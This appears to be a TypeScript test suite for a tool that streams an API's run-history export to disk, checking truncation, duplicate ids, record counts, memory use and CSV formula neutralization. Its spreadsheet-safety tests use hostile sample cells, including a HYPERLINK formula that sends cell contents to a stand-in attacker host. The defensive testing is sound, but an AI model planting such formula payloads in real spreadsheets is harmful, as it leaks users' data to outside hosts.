// The API's own export, streamed to disk, is checked as it passes: its format must end where
// the stream ends, its records are counted in every JSON shape the API may send (a bare
// array, an envelope, NDJSON) and in CSV, repeated ids fail it, a count that disagrees with
// the listing's total fails it with what was seen, and CSV formula cells are neutralized
// unless raw output is asked for. Real HTTP over loopback: the emulator, or a raw node:http
// server that sends whatever body a test builds.
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { randomUUID } from 'node:crypto';
import { Readable, Writable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { parse } from 'csv-parse/sync';
import { exportRuns, type ExportOptions } from '../../src/core/export/exportRuns';
import { CsvExportCheck } from '../../src/core/export/csvExportCheck';
import type { ExportCheck } from '../../src/core/export/exportCheck';
import { JsonExportCheck } from '../../src/core/export/jsonExportCheck';
import { DisperslClient } from '../../src/sources/dispersl/disperslClient';
import { HistoryApiError, NetworkError, ProtocolError } from '../../src/core/errors';
import { useEmulator } from './support/emulatorFixture';
import {
  csvOf,
  envelopeOf,
  hostileTask,
  jsonArrayOf,
  ndjsonOf,
  sendBody,
  startHostileExportServer,
  tasks,
  writePieces,
  type ExportHandler,
  type HostileExportServer,
  type HostileTask,
} from './support/hostileExportServer';

const JSON_TYPE = 'application/json; charset=utf-8';
const CSV_TYPE = 'text/csv; charset=utf-8';

describe("Server export (the API's own export streamed to disk)", () => {
  let dir: string;
  let server: HostileExportServer | undefined;

  beforeEach(async () => {
    dir = await mkdtemp(join(tmpdir(), 'thx-server-export-'));
  });
  afterEach(async () => {
    await server?.close();
    server = undefined;
    await rm(dir, { recursive: true, force: true });
  });

  async function serve(total: number, exportHandler: ExportHandler): Promise<DisperslClient> {
    server = await startHostileExportServer({ total, exportHandler });
    return new DisperslClient({ baseUrl: server.baseUrl, apiKey: 'k', requestsPerHour: null, retries: 0 });
  }

  function exportTo(source: DisperslClient, format: 'csv' | 'json', extra: Partial<ExportOptions> = {}) {
    return exportRuns({ source, query: {}, format, target: join(dir, `out.${format}`), ...extra });
  }

  /** Fails the export, with nothing at the target and no temp file left, and returns the error. */
  async function rejected(promise: Promise<unknown>): Promise<HistoryApiError> {
    const error = await promise.then(
      () => assert.fail('the export succeeded'),
      (e: unknown) => e,
    );
    assert.ok(error instanceof HistoryApiError, `a typed error, got ${String(error)}`);
    assert.deepEqual(await readdir(dir), [], 'nothing at the target, no temp file');
    return error;
  }

  describe('JSON: where the stream ends', () => {
    const list = tasks(230);

    it('rejects a JSON array cut inside its last record, with the response itself complete', async () => {
      const whole = jsonArrayOf(list);
      const cut = whole.slice(0, whole.length - 40); // inside task 230
      const error = await rejected(exportTo(await serve(230, sendBody(cut, JSON_TYPE)), 'json'));
      assert.ok(error instanceof ProtocolError, String(error));
      assert.match(error.message, /cut short/);
      assert.match(error.message, /inside record 230\b/);
    });

    it('rejects a JSON array with data after its end', async () => {
      for (const tail of [']', ',{"task_id":"x"}', 'garbage', '\n[]']) {
        const error = await rejected(exportTo(await serve(230, sendBody(jsonArrayOf(list) + tail, JSON_TYPE)), 'json'));
        assert.ok(error instanceof ProtocolError, `${tail}: ${String(error)}`);
        assert.match(error.message, /after the end/, tail);
        await server!.close();
        server = undefined;
      }
    });

    it('rejects an array or an envelope that is never closed', async () => {
      for (const body of [jsonArrayOf(list).slice(0, -1), envelopeOf(list).slice(0, -1), envelopeOf(list).slice(0, -2)]) {
        const error = await rejected(exportTo(await serve(230, sendBody(body, JSON_TYPE)), 'json'));
        assert.ok(error instanceof ProtocolError, String(error));
        assert.match(error.message, /cut short/);
        await server!.close();
        server = undefined;
      }
    });

    it('rejects a record that is not valid JSON', async () => {
      const body = jsonArrayOf(list).replace('"task_name":"Task 17",', '"task_name":"Task 17",,');
      const error = await rejected(exportTo(await serve(230, sendBody(body, JSON_TYPE)), 'json'));
      assert.ok(error instanceof ProtocolError, String(error));
      assert.match(error.message, /not valid JSON/);
    });
  });

  describe('JSON: the shapes the API may send', () => {
    const list = tasks(230);

    it('accepts an envelope {status, message, data: [...]} with the exact count, and keeps its bytes', async () => {
      const body = envelopeOf(list);
      const result = await exportTo(await serve(230, sendBody(body, JSON_TYPE, 1000)), 'json');
      assert.equal(result.method, 'server');
      assert.equal(result.records, 230);
      assert.equal(await readFile(result.target, 'utf8'), body);
    });

    it('accepts NDJSON with the exact count', async () => {
      const body = ndjsonOf(list);
      const result = await exportTo(await serve(230, sendBody(body, JSON_TYPE, 777)), 'json');
      assert.equal(result.records, 230);
      assert.equal(await readFile(result.target, 'utf8'), body);
    });

    it('accepts a bare array, and an empty export when the API counts none', async () => {
      assert.equal((await exportTo(await serve(230, sendBody(jsonArrayOf(list), JSON_TYPE, 333)), 'json')).records, 230);
      await server!.close();
      assert.equal((await exportTo(await serve(0, sendBody('{"status":"success","data":[]}', JSON_TYPE)), 'json')).records, 0);
    });

    it('rejects an envelope with two "data" members: a JSON reader would see only the last', async () => {
      const [a, b] = [JSON.stringify(list[0]), JSON.stringify(list[1])];
      for (const body of [`{"status":"success","data":[${a}],"data":[${b}]}`, `{"status":"success","data":[${a},${b}],"data":null}`]) {
        const error = await rejected(exportTo(await serve(2, sendBody(body, JSON_TYPE)), 'json'));
        assert.ok(error instanceof ProtocolError, String(error));
        assert.match(error.message, /two "data" members/);
        await server!.close();
      }
    });

    it("rejects an envelope that says the export failed, with the API's message", async () => {
      const body = JSON.stringify({ status: 'error', message: 'Export quota exceeded', data: null });
      const error = await rejected(exportTo(await serve(230, sendBody(body, JSON_TYPE)), 'json'));
      assert.ok(error instanceof ProtocolError);
      assert.match(error.message, /Export quota exceeded/);
    });
  });

  describe('CSV: where the stream ends', () => {
    const list = tasks(230);
    const whole = csvOf(list);
    const lastRow = whole.lastIndexOf('\r\n', whole.length - 3) + 2;

    for (const [title, body] of [
      ['cut inside a quoted field', `${whole.slice(0, lastRow)}t-000229,"Task 229, cut`],
      ['a last row with fewer fields than the header', `${whole.slice(0, lastRow)}t-000229,Task 229,completed`],
      ['cut inside its last field, without the final record delimiter', whole.slice(0, -4)],
    ] as const) {
      it(`rejects a CSV export ${title}`, async () => {
        for (const rawCsv of [false, true]) {
          const error = await rejected(exportTo(await serve(230, sendBody(body, CSV_TYPE, 500)), 'csv', { rawCsv }));
          assert.ok(error instanceof ProtocolError, String(error));
          assert.match(error.message, /cut short/);
          await server!.close();
          server = undefined;
        }
      });
    }
  });

  describe('repeated rows and counts', () => {
    // 229 distinct tasks, and 3 of them sent a second time further on.
    const distinct = tasks(229);
    const repeated = [...distinct.slice(0, 100), distinct[5]!, ...distinct.slice(100, 200), distinct[150]!, distinct[199]!, ...distinct.slice(200)];

    it('rejects repeated ids in a JSON export, saying what was seen', async () => {
      const error = await rejected(exportTo(await serve(229, sendBody(jsonArrayOf(repeated), JSON_TYPE)), 'json'));
      assert.ok(error instanceof ProtocolError, String(error));
      assert.match(error.message, /had 232 records, 3 of them repeating an earlier task id, but the API counts 229 runs/);
      assert.doesNotMatch(error.message, /expired/);
      assert.match(error.detail, /t-000005/);
    });

    it("rejects repeated ids in a CSV export even when the row count matches the API's total", async () => {
      const sameCount = repeated.slice(0, 229); // 229 rows, 3 of them repeats: 226 distinct tasks
      const error = await rejected(exportTo(await serve(229, sendBody(csvOf(sameCount), CSV_TYPE)), 'csv'));
      assert.ok(error instanceof ProtocolError, String(error));
      assert.match(error.message, /had 229 records, 3 of them repeating an earlier task id, but the API counts 229 runs/);
    });

    it("says what was seen when the count disagrees with the API's total", async () => {
      const error = await rejected(exportTo(await serve(229, sendBody(ndjsonOf(distinct.slice(0, 228)), JSON_TYPE)), 'json'));
      assert.ok(error instanceof ProtocolError, String(error));
      assert.match(error.message, /had 228 records, but the API counts 229 runs/);
      assert.doesNotMatch(error.message, /expired/);
    });

    it('rejects records without a task id (nothing to check them by)', async () => {
      const body = JSON.stringify(distinct.map(({ task_id: _id, ...rest }) => rest));
      const error = await rejected(exportTo(await serve(229, sendBody(body, JSON_TYPE)), 'json'));
      assert.ok(error instanceof ProtocolError);
      assert.match(error.message, /record 1 has no task_id/);
    });
  });

  describe('spreadsheet safety', () => {
    const names = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tx', '\rx', 'plain, with "quotes"', 'line1\nline2'];
    const list: HostileTask[] = names.map((name, i) => hostileTask(i, name));
    const body = csvOf(list);

    it("neutralizes formula cells in the API's CSV by default, keeping header, columns and record delimiter", async () => {
      const result = await exportTo(await serve(list.length, sendBody(body, CSV_TYPE, 64)), 'csv');
      const text = await readFile(result.target, 'utf8');
      const rows = parse(text, { columns: true }) as Record<string, string>[];
      assert.deepEqual(Object.keys(rows[0]!), ['task_id', 'task_name', 'status', 'created_at', 'completed_at', 'duration', 'total_steps', 'success_rate', 'total_tokens']);
      assert.deepEqual(
        rows.map((r) => r['task_name']),
        names.map((n, i) => (i < 6 ? `'${n}` : n)),
      );
      // Every other cell is as the API sent it.
      assert.deepEqual(
        rows.map((r) => r['task_id']),
        list.map((t) => t.task_id),
      );
      assert.deepEqual(
        rows.map((r) => r['created_at']),
        list.map((t) => t.created_at),
      );
      assert.ok(!/(^|,)[=+\-@\t\r]/m.test(text.replace(/"/g, '')), 'no cell starts a formula');
      assert.equal(text.split('\r\n').length - 1, list.length + 1, 'CRLF record delimiters kept, one a row (one name holds an LF, one a CR)');
      assert.equal(result.records, list.length);
    });

    it('keeps a lone CR or LF inside a cell quoted when it rewrites, so a spreadsheet cannot split the row into a live formula', async () => {
      const hidden = [hostileTask(0, 'harmless\n=HYPERLINK("http://evil.example","x")'), hostileTask(1, 'cr\r+1+1'), hostileTask(2, 'plain')];
      const result = await exportTo(await serve(hidden.length, sendBody(csvOf(hidden), CSV_TYPE, 16)), 'csv');
      // Rows as a spreadsheet reads them: any CR, LF or CRLF outside quotes ends a row.
      const rows: string[] = [];
      let row = '';
      let quoted = false;
      const text = await readFile(result.target, 'utf8');
      for (let i = 0; i < text.length; i++) {
        const c = text[i]!;
        if (c === '"') quoted = !quoted;
        if (!quoted && (c === '\r' || c === '\n')) {
          if (c === '\r' && text[i + 1] === '\n') i++;
          rows.push(row);
          row = '';
        } else row += c;
      }
      if (row !== '') rows.push(row);
      assert.equal(rows.length, hidden.length + 1, `a header and one row a task: ${JSON.stringify(rows)}`);
      assert.ok(
        rows.every((r) => !/^[=+\-@\t]/.test(r)),
        'no row starts with a formula',
      );
      assert.equal(result.records, hidden.length);
    });

    it("passes the API's CSV through byte for byte with rawCsv, still counted", async () => {
      const result = await exportTo(await serve(list.length, sendBody(body, CSV_TYPE, 64)), 'csv', { rawCsv: true });
      assert.equal(await readFile(result.target, 'utf8'), body);
      assert.equal(result.records, list.length);
    });

    it('keeps an LF-only CSV LF-only and a byte-order mark in place when it rewrites', async () => {
      const lf = `\ufeff${body.replace(/\r\n/g, '\n')}`;
      const result = await exportTo(await serve(list.length, sendBody(lf, CSV_TYPE, 7)), 'csv');
      const text = await readFile(result.target, 'utf8');
      assert.ok(text.startsWith('\ufefftask_id,'), 'BOM kept');
      assert.ok(!text.includes('\r\n'), 'no CRLF added');
      assert.equal((parse(text, { bom: true, columns: true }) as unknown[]).length, list.length);
    });
  });

  describe('the stream breaking', () => {
    const emulator = useEmulator({ disperslTasks: 300 });

    it('a connection cut mid-export is a typed network error, and nothing is left behind', async () => {
      emulator().faults.inject('truncate', 1, /\/history\/export/);
      const source = new DisperslClient({ baseUrl: emulator().disperslBaseUrl, apiKey: emulator().apiKey, requestsPerHour: null, retries: 0 });
      const error = await rejected(exportTo(source, 'csv'));
      assert.ok(error instanceof NetworkError, `${error.name}: ${error.message}`);
    });

    it('a chunked export whose connection dies mid-body is a typed network error', async () => {
      const source = await serve(230, async (_format, res) => {
        res.writeHead(200, { 'Content-Type': JSON_TYPE });
        await writePieces(res, [jsonArrayOf(tasks(230)).slice(0, 5000)]);
        res.socket?.destroy();
      });
      const error = await rejected(exportTo(source, 'json'));
      assert.ok(error instanceof NetworkError, `${error.name}: ${error.message}`);
    });

    it("a file that fails mid-export fails it with the file's own error, not a network error", async () => {
      const { serverExport } = await import('../../src/core/export/serverExport');
      const source = await serve(230, sendBody(jsonArrayOf(tasks(230)), JSON_TYPE, 1000));
      let written = 0;
      const full = new Writable({
        write(chunk: Buffer, _encoding, done) {
          written += chunk.length;
          if (written > 8000) done(Object.assign(new Error('ENOSPC: no space left on device, write'), { code: 'ENOSPC' }));
          else done();
        },
      });
      const error = await serverExport({ source, query: {}, format: 'json', target: '(memory)' }, new Date(), full, () => undefined).then(
        () => assert.fail('the export succeeded'),
        (e: unknown) => e as NodeJS.ErrnoException,
      );
      assert.equal(error.code, 'ENOSPC', String(error));
    });

    it("the emulator's own exports pass every check, in both formats", async () => {
      const source = new DisperslClient({ baseUrl: emulator().disperslBaseUrl, apiKey: emulator().apiKey, requestsPerHour: null });
      for (const format of ['csv', 'json'] as const) {
        const pinnedAt = new Date();
        const result = await exportTo(source, format, { pinnedAt });
        assert.equal(result.method, 'server');
        assert.equal(result.records, emulator().truth.disperslIds({ to_date: pinnedAt.toISOString() }).length);
      }
    });
  });

  describe('memory stays flat', function () {
    this.timeout(120_000);
    const COUNT = 50_000;

    /**
     * The server sends half the export, then holds the rest back until the file has
     * received something (or a generous guard ends the wait and marks the test failed):
     * an implementation that buffered the body before writing would never release it.
     */
    function gatedExport(format: 'csv' | 'json', delivered: Promise<void>, state: { stalled: boolean }): ExportHandler {
      return async (_f, res) => {
        const list = (from: number, to: number) => Array.from({ length: to - from }, (_, i) => hostileTask(from + i));
        res.writeHead(200, { 'Content-Type': format === 'csv' ? CSV_TYPE : JSON_TYPE });
        const pieces = function* (from: number, to: number): Generator<string> {
          for (let at = from; at < to; at += 100) {
            const slice = list(at, Math.min(to, at + 100));
            if (format === 'csv') yield at === 0 ? csvOf(slice) : csvOf(slice).slice(csvOf([]).length);
            else yield (at === 0 ? '{"status":"success","data":[' : ',') + slice.map((t) => JSON.stringify(t)).join(',');
          }
        };
        await writePieces(res, pieces(0, COUNT / 2));
        let guard: NodeJS.Timeout | undefined;
        await Promise.race([delivered, new Promise<void>((resolve) => (guard = setTimeout(() => ((state.stalled = true), resolve()), 60_000)))]);
        clearTimeout(guard);
        await writePieces(res, pieces(COUNT / 2, COUNT));
        if (format === 'json') res.write(']}');
        res.end();
      };
    }

    for (const format of ['json', 'csv'] as const) {
      it(`${format}: a ${COUNT.toLocaleString('en-US')}-record export reaches the file while the server is still sending`, async () => {
        const { serverExport } = await import('../../src/core/export/serverExport');
        let signalDelivered!: () => void;
        const delivered = new Promise<void>((resolve) => (signalDelivered = resolve));
        const state = { stalled: false };
        const source = await serve(COUNT, gatedExport(format, delivered, state));
        let chunks = 0;
        let bytes = 0;
        const out = new Writable({
          write(chunk: Buffer, _encoding, done) {
            chunks++;
            bytes += chunk.length;
            signalDelivered();
            done();
          },
        });
        const counts = await serverExport({ source, query: {}, format, target: '(memory)' }, new Date(), out, () => undefined);
        assert.equal(counts.records, COUNT);
        assert.equal(state.stalled, false, 'the first records reached the file while the server held back the second half');
        assert.ok(chunks > 100, `written in many pieces (${chunks})`);
        console.log(`      ${format}: ${COUNT} records, ${chunks} writes, ${(bytes / 1048576).toFixed(1)} MiB`);
      });
    }
  });

  it('cancelled mid-stream (from its own progress report), it ends with a CancelledError and leaves nothing', async () => {
    const source = await serve(5000, async (_format, res) => {
      res.writeHead(200, { 'Content-Type': CSV_TYPE });
      await writePieces(res, [csvOf(tasks(2500))]);
      // …and the rest never comes: only the cancel can end this export.
    });
    const controller = new AbortController();
    const progress: number[] = [];
    const error = await rejected(
      exportTo(source, 'csv', {
        signal: controller.signal,
        onProgress: (p) => {
          progress.push(p.written);
          if (p.written >= 1000) controller.abort();
        },
      }),
    );
    assert.equal(error.kind, 'cancelled', `${error.name}: ${error.message}`);
    assert.equal(progress[0], 0);
    assert.ok(progress.includes(1000), `progress counted records as they passed: ${progress.join(',')}`);
  });

  it('leaves the target untouched when an export fails', async () => {
    const source = await serve(230, sendBody(jsonArrayOf(tasks(230)).slice(0, -3), JSON_TYPE));
    await assert.rejects(exportTo(source, 'json'), ProtocolError);
    assert.equal(existsSync(join(dir, 'out.json')), false);
  });
});

interface Outcome {
  ok: boolean;
  records?: number;
  duplicates?: number;
  shape?: string;
  output?: string;
  message?: string;
}

/** Runs a check over `pieces`, to the end; what it concluded, and what it let through. */
async function runCheck(check: ExportCheck, pieces: readonly Buffer[]): Promise<Outcome> {
  const out: Buffer[] = [];
  const sink = new Writable({
    write(chunk: Buffer, _encoding, done) {
      out.push(chunk);
      done();
    },
  });
  try {
    await pipeline(Readable.from(pieces, { objectMode: false }), check, sink);
  } catch (error) {
    assert.ok(error instanceof ProtocolError, `a ProtocolError, got ${String(error)}`);
    return { ok: false, message: error.message };
  }
  const { records, duplicates, shape } = check.tally;
  return { ok: true, records, duplicates, shape, output: Buffer.concat(out).toString('utf8') };
}

/** The body whole, then cut in two at every byte, then one byte at a time. */
function splits(body: Buffer): Buffer[][] {
  const all: Buffer[][] = [[body]];
  for (let k = 1; k < body.length; k++) all.push([body.subarray(0, k), body.subarray(k)]);
  all.push([...body].map((b) => Buffer.from([b])));
  return all;
}

describe('Export checks, exact in whatever pieces the body arrives', () => {
  const valid: [string, number, number][] = [
    // body, records, repeated ids
    ['[]', 0, 0],
    [' \r\n[ ]\n', 0, 0],
    ['\ufeff[{"task_id":"a"}]', 1, 0],
    ['[{"task_id":"a","n":-0.5e+3,"t":true,"f":false,"z":null,"x":[1,{"task_id":"not-a-record"}]},{"id":7,"task_id":"b"}]', 2, 0],
    ['[{"task_id":"a\\"b\\\\c\\u00e9\\/"},{"task_id":"a\\"b\\\\cé/"}]', 2, 1],
    ['[{"task_id":"\\u0061"},{"task_id":"a"}]', 2, 1],
    ['[{"name":"x","id":12},{"id":12.0}]', 2, 0],
    ['{"status":"success","message":"ok","data":[{"task_id":"a"},{"task_id":"b","data":[]}],"pagination":{"total":2}}', 2, 0],
    ['{"data":[],"status":"success"}', 0, 0],
    ['{"task_id":"a","status":"completed"}\n{"task_id":"b"}\r\n{"task_id":"a"}\n', 3, 1],
    ['{"task_id":"only","status":"error"}', 1, 0],
  ];
  const invalid: string[] = [
    '',
    '   ',
    '[',
    '[{"task_id":"a"},]',
    '[{"task_id":"a"}',
    '[{"task_id":"a"}]x',
    '[{"task_id":"a"}][]',
    '[{"task_id":"a",}]',
    '[{"task_id":01}]',
    '[{"task_id":"a","n":1.}]',
    '[{"task_id":"a","n":-}]',
    '[{"task_id":"a","n":1e}]',
    '[{"task_id":"a","s":"\\x"}]',
    '[{"task_id":"a","s":"\\u12"}]',
    '[{"task_id":"a","s":"tab\there"}]',
    '[{"task_id":"a","b":tru}]',
    '[{"task_id":"a","b":nulll}]',
    '[{"task_id":"a"}}',
    '[{"task_id":"a"]',
    '[{"task_id" "a"}]',
    '[1]',
    '[{"name":"no id"}]',
    '[{"task_id":null}]',
    '"text"',
    '42',
    '{"status":"success","data":{}}',
    '{"status":"error","message":"nope","data":null}',
    '{"status":"success","data":[{"task_id":"a"}]',
    '{"task_id":"a"}{"task_id":"b"}',
    '{"task_id":"a"}\n[{"task_id":"b"}]',
    '{"status":"success","data":[]}\n{"task_id":"b"}',
    '<!DOCTYPE html><html></html>',
    '\ufeff\ufeff[]',
  ];

  it('JSON: every valid body gives the same count and repeats at every split, every invalid one fails at every split', async function () {
    this.timeout(60_000);
    let runs = 0;
    for (const [text, records, duplicates] of valid) {
      for (const pieces of splits(Buffer.from(text))) {
        const outcome = await runCheck(new JsonExportCheck({ subject: 'X' }), pieces);
        assert.equal(outcome.ok, true, `${text} split ${pieces.length}: ${outcome.message}`);
        assert.deepEqual([outcome.records, outcome.duplicates, outcome.output], [records, duplicates, text], text);
        runs++;
      }
    }
    for (const text of invalid) {
      for (const pieces of splits(Buffer.from(text))) {
        const outcome = await runCheck(new JsonExportCheck({ subject: 'X' }), pieces);
        assert.equal(outcome.ok, false, `${JSON.stringify(text)} was accepted (split into ${pieces.length})`);
        runs++;
      }
    }
    console.log(`      ${runs} runs over ${valid.length} valid and ${invalid.length} invalid bodies`);
  });

  it('JSON: agrees with JSON.parse on which arrays and envelopes are valid', async () => {
    for (const [text] of valid.filter(([t]) => !t.includes('\n{'))) assert.doesNotThrow(() => JSON.parse(text.replace(/^\ufeff/, '')), text);
    const grammar = invalid.filter((t) => !/no id|null}|"data":\{\}|"error"|^"text"|^42|\}\{|\}\n|^\s*$/.test(t) && t !== '[1]');
    for (const text of grammar) assert.throws(() => JSON.parse(text), text);
  });

  it('CSV: the same rows at every split (a quote, a CRLF or a BOM cut in two), and every cut body fails', async function () {
    this.timeout(60_000);
    const body = '\ufefftask_id,name\r\nt1,"a,""b""\r\nc"\r\nt2,=1+1\r\nt1,plain\r\n';
    const expectedRewrite = '\ufefftask_id,name\r\nt1,"a,""b""\r\nc"\r\nt2,\'=1+1\r\nt1,plain\r\n';
    for (const pieces of splits(Buffer.from(body))) {
      const rewritten = await runCheck(new CsvExportCheck({ subject: 'X', raw: false }), pieces);
      assert.deepEqual(rewritten, { ok: true, records: 3, duplicates: 1, shape: 'csv', output: expectedRewrite });
      const raw = await runCheck(new CsvExportCheck({ subject: 'X', raw: true }), pieces);
      assert.deepEqual(raw, { ok: true, records: 3, duplicates: 1, shape: 'csv', output: body });
    }
    // Every cut after the header's end, except at a row boundary, fails.
    const whole = Buffer.from(body);
    const boundaries = new Set<number>();
    for (let at = whole.indexOf('\r\nt') + 2; at > 1; at = whole.indexOf('\r\nt', at) + 2) boundaries.add(at);
    let cuts = 0;
    for (let k = whole.indexOf('\r\n') + 3; k < whole.length; k++) {
      if (boundaries.has(k)) continue;
      const outcome = await runCheck(new CsvExportCheck({ subject: 'X', raw: true }), [whole.subarray(0, k)]);
      assert.equal(outcome.ok, false, `cut at ${k} accepted: ${JSON.stringify(whole.subarray(0, k).toString())}`);
      cuts++;
    }
    assert.ok(cuts > 30);
  });

  it('CSV: no id column, a row with no id, a stray quote, or a ragged row in the middle fail', async () => {
    for (const text of [
      'name,status\r\nx,completed\r\n',
      'task_id,name\r\n,x\r\n',
      'task_id,name\r\nt1,ab"c\r\n',
      'task_id,name\r\nt1\r\nt2,y\r\n',
      'task_id,name\r\nt1,x,extra\r\n',
    ]) {
      const outcome = await runCheck(new CsvExportCheck({ subject: 'X', raw: true }), [Buffer.from(text)]);
      assert.equal(outcome.ok, false, text);
    }
  });

  it('remembers 150,000 ids in bounded memory', async function () {
    this.timeout(120_000);
    setFlagsFromString('--expose-gc');
    const gc = runInNewContext('gc') as () => void;
    const COUNT = 150_000;
    const pieces = function* (): Generator<Buffer> {
      yield Buffer.from('[');
      for (let i = 0; i < COUNT; i += 1000) {
        const batch = Array.from({ length: Math.min(1000, COUNT - i) }, () => JSON.stringify({ task_id: randomUUID(), task_name: 'x', status: 'completed' }));
        yield Buffer.from((i === 0 ? '' : ',') + batch.join(','));
      }
      yield Buffer.from(']');
    };
    gc();
    const before = process.memoryUsage().heapUsed;
    const check = new JsonExportCheck({ subject: 'X' });
    let peak = 0;
    const sink = new Writable({
      write(_chunk, _encoding, done) {
        peak = Math.max(peak, process.memoryUsage().heapUsed - before);
        done();
      },
    });
    await pipeline(Readable.from(pieces()), check, sink);
    gc();
    const held = process.memoryUsage().heapUsed - before;
    assert.equal(check.tally.records, COUNT);
    assert.equal(check.tally.duplicates, 0);
    assert.ok(held < 48 * 1048576, `ids held in ${held} bytes`);
    console.log(`      150,000 UUID ids: ${(held / 1048576).toFixed(1)} MiB held after the export (peak ${(peak / 1048576).toFixed(1)} MiB over the start, garbage included)`);
  });
});
